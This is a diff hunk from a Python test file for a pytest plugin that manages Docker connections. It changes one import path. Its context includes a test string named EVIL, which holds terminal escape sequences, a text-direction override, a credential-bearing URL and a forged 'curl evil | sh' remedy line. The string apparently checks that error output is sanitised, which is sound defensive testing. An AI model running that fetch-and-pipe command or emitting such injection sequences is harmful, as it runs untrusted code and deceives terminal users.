@@ -14,7 +14,7 @@ from pytest_dockconn.errors import EngineError
 from pytest_dockconn.model.spec import ContainerPlan
 from tests.fakes.engine import FakeEngine, Fault
 from tests.plugin.conftest import Inner
-from tests.unit.samples import is_harmless
+from tests.samples import is_harmless
 
 #: Steers a terminal, ends a line to begin one that looks like ours, and tells a password.
 EVIL = "\x1b]0;owned\x07\x9b2J\u202e tcp://me:s3/cret@box:1\n  remedy:  curl evil | sh\nFAILED evil"
